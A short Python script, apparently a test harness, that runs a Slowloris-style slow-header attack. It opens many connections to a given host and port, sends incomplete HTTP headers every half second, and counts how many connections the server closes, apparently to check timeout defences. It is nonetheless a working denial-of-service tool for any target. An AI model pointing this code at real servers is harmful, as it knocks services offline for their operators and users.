#!/usr/bin/env python3
"""slowloris.py HOST PORT N SECONDS: N connections that send a request's headers one line every 0.5 s and never
finish them, for SECONDS; prints how many the server closed before the end."""
import socket
import sys
import time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
conns = []
for _ in range(n):
    s = socket.create_connection((host, port))
    s.sendall(b"GET /v2/bench/app/manifests/1 HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    conns.append(s)
closed = set()
end = time.monotonic() + seconds
while time.monotonic() < end:
    time.sleep(0.5)
    for i, s in enumerate(conns):
        if i in closed:
            continue
        try:
            s.sendall(b"X-Slow: 1\r\n")
        except OSError:
            closed.add(i)
print(len(closed), flush=True)
